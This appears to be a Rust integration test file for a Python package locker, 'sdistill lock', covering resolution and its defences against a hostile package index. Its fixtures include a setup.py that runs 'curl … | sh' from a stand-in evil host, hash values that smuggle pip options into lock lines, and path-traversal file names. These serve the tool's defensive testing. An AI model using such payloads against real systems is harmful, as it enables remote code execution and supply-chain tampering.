//! `sdistill lock` against a package index served by the test on 127.0.0.1, populated with
//! distributions the test builds: static sdists, setup.py-only sdists (their metadata comes
//! from the sandbox), wheels with and without PEP 658 metadata files, yanked and
//! pre-release versions, and requirements that conflict.

mod common;

use std::collections::BTreeMap;
use std::path::Path;

use common::*;

fn static_sdist(name: &str, version: &str, requires: &[&str], headers: &str) -> Vec<u8> {
    let top = format!("{name}-{version}");
    compress(
        Kind::TarGz,
        &tar_bytes(&[file(
            &format!("{top}/PKG-INFO"),
            &pkg_info(name, version, "2.2", requires, headers),
        )]),
    )
}

/// A setup.py-only sdist whose requirements are computed when setup.py runs.
fn dynamic_sdist(name: &str, version: &str, requires_expr: &str) -> Vec<u8> {
    let top = format!("{name}-{version}");
    compress(
        Kind::TarGz,
        &tar_bytes(&[
            file(
                &format!("{top}/PKG-INFO"),
                &format!("Metadata-Version: 1.0\nName: {name}\nVersion: {version}\n"),
            ),
            file(
                &format!("{top}/setup.py"),
                &format!("from setuptools import setup\nsetup(name='{name}', version='{version}', install_requires={requires_expr})\n"),
            ),
        ]),
    )
}

fn metadata(name: &str, version: &str, requires: &[&str], extra: &str) -> String {
    let mut s = format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n{extra}");
    for r in requires {
        s.push_str(&format!("Requires-Dist: {r}\n"));
    }
    s
}

fn entry(project: &str, filename: &str, bytes: Vec<u8>) -> IndexEntry {
    IndexEntry::new(project, filename, bytes)
}

fn wheel_with_metadata(name: &str, version: &str, requires: &[&str], extra: &str) -> IndexEntry {
    let module = name.replace('-', "_");
    let mut e = entry(
        name,
        &format!("{module}-{version}-py3-none-any.whl"),
        wheel_bytes(name, version, "", requires),
    );
    e.metadata = Some(metadata(name, version, requires, extra));
    e
}

fn fixture() -> Vec<IndexEntry> {
    let mut yanked = entry("lib", "lib-3.0.tar.gz", static_sdist("lib", "3.0", &[], ""));
    yanked.yanked = true;
    let mut newpy = entry(
        "newpy",
        "newpy-1.0.tar.gz",
        static_sdist("newpy", "1.0", &[], ""),
    );
    newpy.requires_python = Some(">=3.13".into());
    vec![
        entry(
            "app",
            "app-1.0.tar.gz",
            static_sdist(
                "app",
                "1.0",
                &[
                    "lib>=1",
                    "util",
                    "winonly; sys_platform == \"win32\"",
                    "oldpy; python_version < \"3\"",
                    "fancy; extra == \"fancy\"",
                ],
                "Provides-Extra: fancy\n",
            ),
        ),
        entry("lib", "lib-1.0.tar.gz", dynamic_sdist("lib", "1.0", "[]")),
        entry(
            "lib",
            "lib-2.0.tar.gz",
            dynamic_sdist("lib", "2.0", "['hel' + 'per>=1']"),
        ),
        yanked,
        entry(
            "lib",
            "lib-4.0b1.tar.gz",
            static_sdist("lib", "4.0b1", &[], ""),
        ),
        // A wheel without a metadata file: downloaded and read.
        entry(
            "helper",
            "helper-1.0-py3-none-any.whl",
            wheel_bytes("helper", "1.0", "", &[]),
        ),
        wheel_with_metadata("util", "1.0", &[], ""),
        entry(
            "util",
            "util-1.0.tar.gz",
            static_sdist("util", "1.0", &[], ""),
        ),
        wheel_with_metadata("winonly", "1.0", &[], ""),
        wheel_with_metadata("fancy", "1.0", &[], ""),
        newpy,
        entry(
            "newpy",
            "newpy-0.9.tar.gz",
            static_sdist("newpy", "0.9", &[], ""),
        ),
        wheel_with_metadata("c-a", "1.0", &["c-shared<2"], ""),
        wheel_with_metadata("c-b", "1.0", &["c-shared>=2"], ""),
        wheel_with_metadata("c-shared", "1.0", &[], ""),
        wheel_with_metadata("c-shared", "2.0", &[], ""),
        // Only a local-version build, as some indexes publish (`torch 2.1.0+cpu`).
        wheel_with_metadata("tv", "2.1.0+cpu", &[], ""),
        entry(
            "broken",
            "broken-1.0.tar.gz",
            static_sdist("broken", "1.0", &[], ""),
        ),
        entry(
            "broken",
            "broken-2.0.tar.gz",
            dynamic_sdist(
                "broken",
                "2.0",
                "__import__('sys').exit('boom: needs a C compiler')",
            ),
        ),
        // Build code that tries to run a downloaded script (refused) and answers [].
        entry(
            "phonehome",
            "phonehome-1.0.tar.gz",
            dynamic_sdist(
                "phonehome",
                "1.0",
                "[__import__('os').system('curl -s http://lock.evil.example | sh')] and []",
            ),
        ),
        IndexEntry {
            advertised_sha256: Some("0".repeat(64)),
            ..entry(
                "liar",
                "liar-1.0.tar.gz",
                static_sdist("liar", "1.0", &[], ""),
            )
        },
    ]
}

struct Locker {
    server: Option<IndexServer>,
    url: String,
    cache: tempfile::TempDir,
    runtime: String,
    sha: BTreeMap<String, String>,
}

impl Locker {
    fn new() -> Self {
        Self::with(fixture())
    }

    fn with(entries: Vec<IndexEntry>) -> Self {
        let sha = entries
            .iter()
            .map(|e| (e.filename.clone(), e.sha256()))
            .collect();
        let server = IndexServer::start(entries);
        let (cache, runtime) = private_cache();
        Self {
            url: server.url.clone(),
            server: Some(server),
            cache,
            runtime,
            sha,
        }
    }

    /// Runs `lock` and returns (exit code, lock text, stderr).
    fn lock(&self, args: &[&str]) -> (i32, String, String) {
        let mut all = vec!["lock", "--index-url", &self.url, "--runtime", &self.runtime];
        all.extend_from_slice(args);
        let out = run_env(
            &all,
            &[
                ("SDISTILL_CACHE_DIR", self.cache.path().as_os_str()),
                ("SDISTILL_NO_CACHE", std::ffi::OsStr::new("0")),
            ],
        );
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    }

    fn ok(&self, args: &[&str]) -> Pins {
        let (code, text, stderr) = self.lock(args);
        assert_eq!(code, 0, "lock {args:?} failed: {stderr}\n{text}");
        Pins::parse(&text)
    }
}

#[derive(Debug)]
struct Pin {
    version: String,
    extras: Vec<String>,
    marker: Option<String>,
    hashes: Vec<String>,
    via: Vec<String>,
    /// Other annotation lines (build help).
    notes: Vec<String>,
}

struct Pins(BTreeMap<String, Pin>);

impl Pins {
    /// Parses the lock format: `name==version [; marker] \`, hash lines, `# via` lines.
    fn parse(text: &str) -> Self {
        let mut pins = BTreeMap::new();
        let mut current: Option<String> = None;
        for line in text.lines() {
            if line.starts_with('#') || line.is_empty() {
                continue;
            }
            if !line.starts_with(' ') {
                let head = line.trim_end_matches('\\').trim();
                let (spec, marker) = match head.split_once(" ; ") {
                    Some((s, m)) => (s, Some(m.to_string())),
                    None => (head, None),
                };
                let (name, version) = spec
                    .split_once("==")
                    .or_else(|| spec.split_once(" @ "))
                    .expect("name==version or name @ url");
                let (name, extras) = match name.split_once('[') {
                    Some((n, e)) => (
                        n,
                        e.trim_end_matches(']')
                            .split(',')
                            .map(String::from)
                            .collect(),
                    ),
                    None => (name, vec![]),
                };
                current = Some(name.to_string());
                pins.insert(
                    name.to_string(),
                    Pin {
                        version: version.to_string(),
                        extras,
                        marker,
                        hashes: vec![],
                        via: vec![],
                        notes: vec![],
                    },
                );
                continue;
            }
            let pin = pins.get_mut(current.as_ref().unwrap()).unwrap();
            let line = line.trim().trim_end_matches('\\').trim();
            if let Some(h) = line.strip_prefix("--hash=sha256:") {
                pin.hashes.push(h.to_string());
            } else if let Some(v) = line.strip_prefix("# via ") {
                pin.via.push(v.to_string());
            } else if let Some(v) = line.strip_prefix("#   ") {
                pin.via.push(v.to_string());
            } else if let Some(n) = line.strip_prefix("# ") {
                pin.notes.push(n.to_string());
            }
        }
        Self(pins)
    }

    fn version(&self, name: &str) -> &str {
        &self.get(name).version
    }

    fn get(&self, name: &str) -> &Pin {
        self.0
            .get(name)
            .unwrap_or_else(|| panic!("{name} not pinned: {:?}", self.0))
    }

    fn has(&self, name: &str) -> bool {
        self.0.contains_key(name)
    }
}

#[test]
fn locks_static_setup_py_sdists_and_wheels_with_every_hash() {
    let l = Locker::new();
    let pins = l.ok(&["app"]);
    assert_eq!(pins.version("app"), "1.0");
    // lib 3.0 is yanked, 4.0b1 a pre-release: 2.0 wins, and its requirement only exists
    // once its setup.py has run in the sandbox.
    assert_eq!(pins.version("lib"), "2.0");
    assert_eq!(pins.version("helper"), "1.0");
    assert_eq!(pins.version("util"), "1.0");
    assert_eq!(pins.get("lib").via, ["app"]);
    assert_eq!(pins.get("helper").via, ["lib"]);
    assert_eq!(pins.get("app").via, ["command line"]);
    // Every file of the version: util has a wheel and an sdist.
    let mut util = vec![
        l.sha["util-1.0-py3-none-any.whl"].clone(),
        l.sha["util-1.0.tar.gz"].clone(),
    ];
    util.sort();
    assert_eq!(pins.get("util").hashes, util);
    assert_eq!(pins.get("app").hashes, [l.sha["app-1.0.tar.gz"].clone()]);
    assert_eq!(pins.get("lib").hashes, [l.sha["lib-2.0.tar.gz"].clone()]);
    // Markers that are false on Linux / Python 3 drop their requirements; no extras asked.
    for absent in ["winonly", "oldpy", "fancy"] {
        assert!(!pins.has(absent), "{absent} pinned");
    }
    assert!(pins.0.values().all(|p| p.marker.is_none()));
}

#[test]
fn markers_are_evaluated_for_the_target_and_kept_where_they_apply() {
    let l = Locker::new();
    let pins = l.ok(&["app", "--platform", "windows"]);
    let win = pins.get("winonly");
    assert_eq!(win.version, "1.0");
    assert_eq!(win.marker.as_deref(), Some("sys_platform == 'win32'"));
    assert!(pins.get("lib").marker.is_none());
    // A user requirement's own marker is kept too; a false one drops it.
    let pins = l.ok(&[
        "util; python_version >= '3.10'",
        "helper; python_version < '3'",
    ]);
    assert_eq!(
        pins.get("util").marker.as_deref(),
        Some("python_full_version >= '3.10'")
    );
    assert!(!pins.has("helper"));
}

/// An index's metadata is untrusted: a marker nested 20,000 deep once overflowed the
/// marker parser's stack and aborted the lock. It is ignored with a warning; the rest of
/// the project's requirements are still locked.
#[test]
fn a_deeply_nested_marker_in_index_metadata_is_ignored_with_a_warning() {
    let deep = format!(
        "evil-dep; {}python_version > '3'{}",
        "(".repeat(20_000),
        ")".repeat(20_000)
    );
    let l = Locker::with(vec![
        wheel_with_metadata("deep", "1.0", &[&deep, "helper"], ""),
        wheel_with_metadata("helper", "1.0", &[], ""),
    ]);
    let (code, text, stderr) = l.lock(&["deep"]);
    assert_eq!(code, 0, "{stderr}\n{text}");
    let pins = Pins::parse(&text);
    assert_eq!(pins.version("helper"), "1.0");
    assert!(!pins.has("evil-dep"));
    assert!(stderr.contains("too complex to parse safely"), "{stderr}");
}

#[test]
fn extras_are_honoured() {
    let l = Locker::new();
    let pins = l.ok(&["app[fancy]"]);
    assert_eq!(pins.version("fancy"), "1.0");
    assert_eq!(pins.get("fancy").via, ["app"]);
    // The pin keeps the extra it was asked with (pip < 23.3 needs it in
    // --require-hashes mode); --strip-extras writes the bare pin.
    assert_eq!(pins.get("app").extras, ["fancy"]);
    let pins = l.ok(&["app[fancy]", "--strip-extras"]);
    assert!(pins.get("app").extras.is_empty());
}

#[test]
fn yanked_versions_only_when_pinned_exactly() {
    let l = Locker::new();
    let (code, text, stderr) = l.lock(&["lib==3.0"]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(Pins::parse(&text).version("lib"), "3.0");
    assert!(stderr.contains("yanked"), "{stderr}");
    // `<4` excludes 4.0b1 (PEP 440), 3.0 is yanked: nothing fits, and the lock says so.
    // The hints name only versions the requirement admits: 4.0b1 is not one of them.
    let (code, _, stderr) = l.lock(&["lib>=2.5,<4"]);
    assert_eq!(code, 1, "{stderr}");
    assert!(stderr.contains("no version of lib"), "{stderr}");
    assert!(stderr.contains("hint: lib 3.0 is yanked"), "{stderr}");
    assert!(!stderr.contains("4.0b1"), "{stderr}");
}

#[test]
fn prereleases_only_when_allowed_or_nothing_else_fits() {
    let l = Locker::new();
    assert_eq!(l.ok(&["lib"]).version("lib"), "2.0");
    assert_eq!(l.ok(&["lib", "--prerelease"]).version("lib"), "4.0b1");
    assert_eq!(l.ok(&["lib>=3.5"]).version("lib"), "4.0b1");
}

#[test]
fn a_public_pin_matches_its_local_versions() {
    let l = Locker::new();
    let pins = l.ok(&["tv==2.1.0"]);
    assert_eq!(pins.version("tv"), "2.1.0+cpu");
    let (code, _, stderr) = l.lock(&["tv!=2.1.0"]);
    assert_eq!(code, 1, "{stderr}");
}

#[test]
fn requires_python_of_files_is_honoured() {
    let l = Locker::new();
    assert_eq!(l.ok(&["newpy"]).version("newpy"), "0.9");
    assert_eq!(
        l.ok(&["newpy", "--python-version", "3.13"])
            .version("newpy"),
        "1.0"
    );
}

#[test]
fn conflicts_are_explained() {
    let l = Locker::new();
    let (code, text, stderr) = l.lock(&["c-a", "c-b"]);
    assert_eq!(code, 1, "{text}");
    assert!(text.is_empty());
    assert!(stderr.contains("no solution"), "{stderr}");
    for needle in ["c-a", "c-b", "c-shared"] {
        assert!(stderr.contains(needle), "{needle} missing from: {stderr}");
    }
    // Unknown projects and bad input are clear too.
    let (code, _, stderr) = l.lock(&["does-not-exist"]);
    assert_eq!(code, 1, "{stderr}");
    assert!(
        stderr.contains("hint: does-not-exist: no distribution"),
        "{stderr}"
    );
    let (code, _, stderr) = l.lock(&["lib>>1"]);
    assert_eq!(code, 2, "{stderr}");
}

#[test]
fn constraints_binary_policy_and_previous_pins() {
    let l = Locker::new();
    let tmp = tempfile::tempdir().unwrap();
    let cons = tmp.path().join("constraints.txt");
    std::fs::write(&cons, "lib<2\nnot-required==1\n").unwrap();
    let reqs = tmp.path().join("requirements.in");
    std::fs::write(&reqs, "# what we need\nlib\n").unwrap();
    let pins = l.ok(&["-r", reqs.to_str().unwrap(), "-c", cons.to_str().unwrap()]);
    assert_eq!(pins.version("lib"), "1.0");
    assert!(!pins.has("not-required"));
    assert!(
        pins.get("lib").via[0].starts_with("-r "),
        "{:?}",
        pins.get("lib").via
    );

    // --no-binary: only the sdist's hash; --only-binary: the sdist-only lib cannot be used.
    let pins = l.ok(&["util", "--no-binary", "util"]);
    assert_eq!(pins.get("util").hashes, [l.sha["util-1.0.tar.gz"].clone()]);
    let (code, _, stderr) = l.lock(&["lib", "--only-binary", ":all:"]);
    assert_eq!(code, 1, "{stderr}");

    // An existing output's pins are kept while they fit; -P moves one.
    let out = tmp.path().join("requirements.txt");
    let out_s = out.to_str().unwrap();
    std::fs::write(&out, "lib==1.0 \\\n    --hash=sha256:00\n").unwrap();
    l.ok(&["lib", "-o", out_s]);
    let kept = Pins::parse(&std::fs::read_to_string(&out).unwrap());
    assert_eq!(kept.version("lib"), "1.0");
    l.ok(&["lib", "-o", out_s, "-P", "lib"]);
    let moved = Pins::parse(&std::fs::read_to_string(&out).unwrap());
    assert_eq!(moved.version("lib"), "2.0");
}

/// A build that fails in the sandbox ends the lock with its reason (as pip and uv do),
/// rather than quietly backtracking to an older version that happens to build.
#[test]
fn a_failing_build_ends_the_lock_with_its_reason() {
    let l = Locker::new();
    let (code, text, stderr) = l.lock(&["broken"]);
    assert_eq!(code, 1, "{stderr}");
    assert!(text.is_empty());
    assert!(stderr.contains("broken-2.0.tar.gz"), "{stderr}");
    assert!(stderr.contains("boom"), "{stderr}");
    assert_eq!(l.ok(&["broken<2"]).version("broken"), "1.0");
}

/// A file whose bytes do not match the index's sha256 is never opened.
#[test]
fn a_file_that_does_not_match_its_hash_is_refused() {
    let l = Locker::new();
    let (code, text, stderr) = l.lock(&["liar"]);
    assert_eq!(code, 3, "{stderr}");
    assert!(text.is_empty());
    assert!(stderr.contains("does not match"), "{stderr}");
}

/// The second lock of the same inputs is answered from caches: with --offline and the
/// index gone it makes no network call, and with no runtime at all it makes no sandbox run.
#[test]
fn a_second_lock_needs_no_network_and_no_sandbox() {
    let mut l = Locker::new();
    let first = l.lock(&["app"]);
    assert_eq!(first.0, 0, "{}", first.2);
    drop(l.server.take());
    l.runtime = Path::new("/nonexistent/runtime").display().to_string();
    let second = l.lock(&["app", "--offline"]);
    assert_eq!(second.0, 0, "{}", second.2);
    let body = |t: &str| -> String {
        t.lines()
            .filter(|l| !l.starts_with('#'))
            .collect::<Vec<_>>()
            .join("\n")
    };
    assert_eq!(body(&first.1), body(&second.1));
    // Something not cached fails clearly offline.
    let (code, _, stderr) = l.lock(&["c-a", "--offline"]);
    assert_eq!(code, 3, "{stderr}");
    assert!(stderr.contains("offline"), "{stderr}");
}

// ---------------------------------------------------------------------------------------
// A hostile index and a hostile uploader: what reaches the lock file and the disk.
// ---------------------------------------------------------------------------------------

/// Python's `str.splitlines()` boundaries, which pip's requirements parser splits at.
fn python_splitlines(text: &str) -> Vec<String> {
    let mut lines = Vec::new();
    let mut current = String::new();
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\r' => {
                if chars.peek() == Some(&'\n') {
                    chars.next();
                }
                lines.push(std::mem::take(&mut current));
            }
            '\n' | '\u{b}' | '\u{c}' | '\u{1c}' | '\u{1d}' | '\u{1e}' | '\u{85}' | '\u{2028}'
            | '\u{2029}' => lines.push(std::mem::take(&mut current)),
            c => current.push(c),
        }
    }
    if !current.is_empty() {
        lines.push(current);
    }
    lines
}

/// Python's `str.isspace()`, which the `\s` of pip's comment regex follows.
fn py_space(c: char) -> bool {
    c.is_whitespace() || ('\u{1c}'..='\u{1f}').contains(&c)
}

/// `COMMENT_RE.match(line)`: the line is a comment (`(^|\s+)#` at its start).
fn pip_comment_line(line: &str) -> bool {
    line.trim_start_matches(py_space).starts_with('#')
}

/// `COMMENT_RE.sub("", line)`: everything from a `#` at the start or after whitespace.
fn pip_strip_comment(line: &str) -> &str {
    let mut previous_space = true;
    for (i, c) in line.char_indices() {
        if c == '#' && previous_space {
            return &line[..i];
        }
        previous_space = py_space(c);
    }
    line
}

/// The logical lines pip's `preprocess` yields: `join_lines` (a line ending in `\` is
/// joined with the next unless it is a comment; `strip("\\")` on joined parts), then
/// `ignore_comments` (comment removal, `strip()`, empty lines dropped).
fn pip_logical_lines(text: &str) -> Vec<String> {
    let mut joined = Vec::new();
    let mut pending: Vec<String> = Vec::new();
    for line in python_splitlines(text) {
        if !line.ends_with('\\') || pip_comment_line(&line) {
            let line = if pip_comment_line(&line) {
                format!(" {line}")
            } else {
                line
            };
            if pending.is_empty() {
                joined.push(line);
            } else {
                pending.push(line);
                joined.push(pending.concat());
                pending.clear();
            }
        } else {
            pending.push(line.trim_matches('\\').to_string());
        }
    }
    if !pending.is_empty() {
        joined.push(pending.concat());
    }
    joined
        .iter()
        .map(|l| pip_strip_comment(l).trim_matches(py_space).to_string())
        .filter(|l| !l.is_empty())
        .collect()
}

/// pip's `break_args_options`: tokens split on single spaces; the first token starting
/// with `-` and everything after it are options.
fn pip_break_args_options(line: &str) -> (String, String) {
    let tokens: Vec<&str> = line.split(' ').collect();
    let at = tokens
        .iter()
        .position(|t| t.starts_with('-'))
        .unwrap_or(tokens.len());
    (tokens[..at].join(" "), tokens[at..].join(" "))
}

/// One requirement of a lock as pip reads it.
#[derive(Debug)]
struct PipLine {
    name: String,
    version: String,
    marker: Option<String>,
    hashes: Vec<String>,
}

/// Reads a lock file with pip's rules and checks every logical line is exactly one
/// `name==version [; marker]` with only `--hash=sha256:<64 lowercase hex>` options.
fn read_like_pip(text: &str) -> Vec<PipLine> {
    let mut out = Vec::new();
    for line in pip_logical_lines(text) {
        assert!(
            !line.contains("${"),
            "pip would expand a variable: {line:?}"
        );
        let (args, options) = pip_break_args_options(&line);
        let tokens =
            shlex::split(&options).unwrap_or_else(|| panic!("pip cannot split {options:?}"));
        let mut hashes = Vec::new();
        for t in tokens {
            let hex = t
                .strip_prefix("--hash=sha256:")
                .unwrap_or_else(|| panic!("option other than --hash on {line:?}: {t:?}"));
            assert!(
                hex.len() == 64
                    && hex
                        .bytes()
                        .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b)),
                "not a lowercase sha256: {hex:?} in {line:?}"
            );
            hashes.push(hex.to_string());
        }
        assert!(!hashes.is_empty(), "a requirement without hashes: {line:?}");
        let (spec, marker) = match args.split_once(';') {
            Some((s, m)) => (s.trim(), Some(m.trim().to_string())),
            None => (args.trim(), None),
        };
        let (name, version) = spec
            .split_once("==")
            .unwrap_or_else(|| panic!("not name==version: {line:?}"));
        assert!(
            name.bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-'),
            "name not normalized: {line:?}"
        );
        let req: sdistill::resolve::Pep508Requirement =
            args.parse().unwrap_or_else(|e| panic!("{args:?}: {e}"));
        assert_eq!(req.name.as_ref(), name);
        out.push(PipLine {
            name: name.to_string(),
            version: version.to_string(),
            marker,
            hashes,
        });
    }
    out
}

/// Runs pip's own requirements-file parser (pip's code, not package code) on `lock`:
/// `None` when this machine has no pip. Returns, per line, pip's requirement and the
/// options pip set on it.
fn parse_with_pip(lock: &Path) -> Option<Vec<serde_json::Value>> {
    const SCRIPT: &str = r#"
import json, sys
from pip._internal.req.req_file import RequirementsFileParser, get_line_parser, build_parser
from pip._internal.req.constructors import parse_req_from_line
from pip._internal.network.session import PipSession
defaults = build_parser().get_default_values()
defaults.index_url = None
out = []
for line in RequirementsFileParser(PipSession(), get_line_parser(None))._parse_file(sys.argv[1], False):
    opts = {k: v for k, v in vars(line.opts).items() if getattr(defaults, k, None) != v}
    entry = {"is_requirement": line.is_requirement, "opts": opts}
    if line.is_requirement:
        parts = parse_req_from_line(line.requirement, None)
        entry["name"] = parts.requirement.name if parts.requirement else None
        entry["specifier"] = str(parts.requirement.specifier) if parts.requirement else None
        entry["marker"] = str(parts.markers) if parts.markers else None
        entry["link"] = str(parts.link) if parts.link else None
    out.append(entry)
print(json.dumps(out, default=str))
"#;
    let probe = std::process::Command::new("python3")
        .args(["-c", "import pip._internal.req.req_file"])
        .output();
    if !probe.map(|o| o.status.success()).unwrap_or(false) {
        eprintln!("skipping pip's own parser: python3 with pip is not available here");
        return None;
    }
    let out = std::process::Command::new("python3")
        .args(["-c", SCRIPT])
        .arg(lock)
        .env("PIP_NO_INDEX", "1")
        .output()
        .expect("run python3");
    assert!(
        out.status.success(),
        "pip's parser failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    Some(serde_json::from_slice(&out.stdout).expect("pip parser JSON"))
}

/// Checks pip's own reading of `lock` against ours: one requirement per line, no link,
/// only `--hash` options.
fn check_with_pip(lock: &Path, ours: &[PipLine]) {
    let Some(lines) = parse_with_pip(lock) else {
        return;
    };
    assert_eq!(lines.len(), ours.len(), "pip read {lines:?}");
    for (pip, our) in lines.iter().zip(ours) {
        assert_eq!(pip["is_requirement"], true, "{pip}");
        assert!(
            pip["link"].is_null(),
            "pip took a requirement for a file: {pip}"
        );
        assert_eq!(pip["name"], our.name.as_str(), "{pip}");
        assert_eq!(
            pip["specifier"],
            format!("=={}", our.version).as_str(),
            "{pip}"
        );
        let opts = pip["opts"].as_object().expect("opts");
        assert_eq!(
            opts.keys().collect::<Vec<_>>(),
            ["hashes"],
            "pip set other options: {pip}"
        );
        let mut hashes: Vec<String> =
            serde_json::from_value(opts["hashes"]["sha256"].clone()).unwrap();
        hashes.sort();
        let mut expected = our.hashes.clone();
        expected.sort();
        assert_eq!(hashes, expected, "{pip}");
        assert_eq!(pip["marker"].is_null(), our.marker.is_none(), "{pip}");
    }
}

/// A cache directory inside a canary directory: whatever is written outside the cache
/// lands next to it. The canary's name has no `-`, so an absolute file name into it still
/// splits like a wheel name.
#[cfg(unix)]
fn caged_cache() -> (tempfile::TempDir, std::path::PathBuf, String) {
    let canary = tempfile::Builder::new().prefix("canary").tempdir().unwrap();
    let cache = canary.path().join("cache");
    std::fs::create_dir(&cache).unwrap();
    let runtime = share_modules_into(&cache);
    (canary, cache, runtime)
}

fn assert_only_the_cache_in(canary: &Path) {
    let names: Vec<String> = std::fs::read_dir(canary)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(names, ["cache"], "written outside the cache: {names:?}");
}

/// Runs `lock` against `url` with `cache`; returns (exit code, stdout, stderr).
fn lock_at(url: &str, cache: &Path, runtime: &str, args: &[&str]) -> (i32, String, String) {
    let mut all = vec!["lock", "--index-url", url, "--runtime", runtime];
    all.extend_from_slice(args);
    let out = run_env(
        &all,
        &[
            ("SDISTILL_CACHE_DIR", cache.as_os_str()),
            ("SDISTILL_NO_CACHE", std::ffi::OsStr::new("0")),
        ],
    );
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn json_file(filename: &str, url: &str, sha256: &str, metadata: Option<&str>) -> serde_json::Value {
    let mut f = serde_json::json!({
        "filename": filename,
        "url": url,
        "hashes": {"sha256": sha256},
    });
    if let Some(m) = metadata {
        f["core-metadata"] = serde_json::json!({ "sha256": m });
    }
    f
}

fn json_page(project: &str, files: Vec<serde_json::Value>) -> RawPage {
    RawPage {
        path: format!("/simple/{project}/"),
        content_type: "application/vnd.pypi.simple.v1+json",
        body: serde_json::to_vec(&serde_json::json!({
            "meta": {"api-version": "1.1"},
            "name": project,
            "files": files,
        }))
        .unwrap(),
    }
}

fn html_page(project: &str, anchors: &[String]) -> RawPage {
    RawPage {
        path: format!("/simple/{project}/"),
        content_type: "text/html",
        body: format!("<html><body>\n{}\n</body></html>\n", anchors.join("\n")).into_bytes(),
    }
}

/// A file only reachable by URL (no page lists it through [`IndexEntry`]).
fn served(filename: &str, bytes: Vec<u8>) -> IndexEntry {
    entry("-unlisted-", filename, bytes)
}

fn sha(bytes: &[u8]) -> String {
    use sha2::Digest;
    hex::encode(sha2::Sha256::digest(bytes))
}

/// Every value an index states is untrusted: hashes with newlines and pip options, hashes
/// in capitals or of the wrong length, `../` hashes, absolute and `../` file names, files
/// of another project, a URL naming another file, a metadata hash with options. The
/// hostile files are refused (and reported), the honest ones lock, the lock reads back
/// under pip's rules (and pip's own parser) as exactly the resolved pins, and nothing is
/// written outside the cache.
#[cfg(unix)]
#[test]
fn a_hostile_index_cannot_write_into_the_lock_or_outside_the_cache() {
    let (canary, cache, runtime) = caged_cache();
    let canary_path = canary.path().display().to_string();
    let evil_hash = "e".repeat(64);
    let injection = format!(
        "\n--extra-index-url http://evil.invalid/simple/\nevil==6.6 --hash=sha256:{evil_hash}"
    );

    let app_meta = metadata(
        "app",
        "1.0",
        &["dep", "plat; python_version >= \"3.8\""],
        "",
    );
    let app_whl = wheel_bytes("app", "1.0", "", &["dep"]);
    let app_whl2 = wheel_bytes("app", "1.0", "# py2.py3", &["dep"]);
    let app2 = static_sdist("app", "2.0", &["evil"], "");
    let evil_whl = wheel_bytes("evil", "9.0", "", &[]);
    let dep_meta = metadata("dep", "1.0", &[], "");
    let dep_whl = wheel_bytes("dep", "1.0", "", &[]);
    let f = |name: &str| format!("/files/{name}");

    let app_page = json_page(
        "app",
        vec![
            json_file(
                "app-1.0-py3-none-any.whl",
                &f("app-1.0-py3-none-any.whl"),
                &sha(&app_whl),
                Some(&sha(app_meta.as_bytes())),
            ),
            // Capitals are a valid digest; the lock writes it lowercase.
            json_file(
                "app-1.0-py2.py3-none-any.whl",
                &f("app-1.0-py2.py3-none-any.whl"),
                &sha(&app_whl2).to_uppercase(),
                None,
            ),
            json_file(
                "app-1.0.tar.gz",
                &f("app-1.0.tar.gz"),
                &format!("{}{injection}", sha(&app2)),
                None,
            ),
            json_file("app-1.0.zip", &f("app-1.0.zip"), &"a".repeat(63), None),
            json_file("app-1.1.zip", &f("app-1.1.zip"), &"a".repeat(65), None),
            // Newer, so it would be chosen: its hash would be a cache directory.
            json_file(
                "app-2.0.tar.gz",
                &f("app-2.0.tar.gz"),
                "../../escaped",
                None,
            ),
            json_file(
                &format!("{canary_path}/app-3.0.tar.gz"),
                &f("app-3.0.tar.gz"),
                &sha(&app2),
                None,
            ),
            json_file(
                "../app-3.1-py3-none-any.whl",
                &f("app-3.1-py3-none-any.whl"),
                &sha(&app_whl),
                None,
            ),
            json_file(
                "evil-9.0-py3-none-any.whl",
                &f("evil-9.0-py3-none-any.whl"),
                &sha(&evil_whl),
                None,
            ),
            json_file(
                "app-4.0-py3-none-any.whl",
                &f("evil-9.0-py3-none-any.whl"),
                &sha(&evil_whl),
                None,
            ),
            json_file(
                "app-5.0-py3-none-any.whl",
                &f("app-5.0-py3-none-any.whl"),
                &sha(&app_whl),
                Some(&format!("zz{injection}")),
            ),
        ],
    );
    let dep_page = html_page(
        "dep",
        &[
            format!(
                "<a href=\"/files/dep-1.0-py3-none-any.whl#sha256={}\" data-core-metadata=\"sha256={}\">dep-1.0-py3-none-any.whl</a>",
                sha(&dep_whl).to_uppercase(),
                sha(dep_meta.as_bytes())
            ),
            format!(
                "<a href=\"/files/dep-2.0.tar.gz#sha256={}%0A--extra-index-url%20http://evil.invalid/\">dep-2.0.tar.gz</a>",
                sha(&app2)
            ),
            format!(
                "<a href=\"/files/dep-3.0-py3-none-any.whl#sha256={}\" data-core-metadata=\"sha256=ab{injection}\">dep-3.0-py3-none-any.whl</a>",
                sha(&dep_whl)
            ),
            format!("<a href=\"/files/dep-4.0.tar.gz#sha256={}\">../../dep-4.0.tar.gz</a>", sha(&app2)),
            "<a href=\"/files/dep-5.0.tar.gz#sha256=../../escaped\">dep-5.0.tar.gz</a>".to_string(),
        ],
    );
    let mut entries = vec![
        served("app-1.0-py3-none-any.whl", app_whl.clone()),
        served("app-1.0-py2.py3-none-any.whl", app_whl2.clone()),
        served("app-1.0.tar.gz", app2.clone()),
        served("app-2.0.tar.gz", app2.clone()),
        served("app-3.0.tar.gz", app2.clone()),
        served("app-3.1-py3-none-any.whl", app_whl.clone()),
        served("app-5.0-py3-none-any.whl", app_whl.clone()),
        served("evil-9.0-py3-none-any.whl", evil_whl),
        served("dep-1.0-py3-none-any.whl", dep_whl.clone()),
        served("dep-2.0.tar.gz", app2.clone()),
        served("dep-3.0-py3-none-any.whl", dep_whl.clone()),
        served("dep-4.0.tar.gz", app2.clone()),
        wheel_with_metadata("plat", "1.0", &[], ""),
    ];
    entries[0].metadata = Some(app_meta);
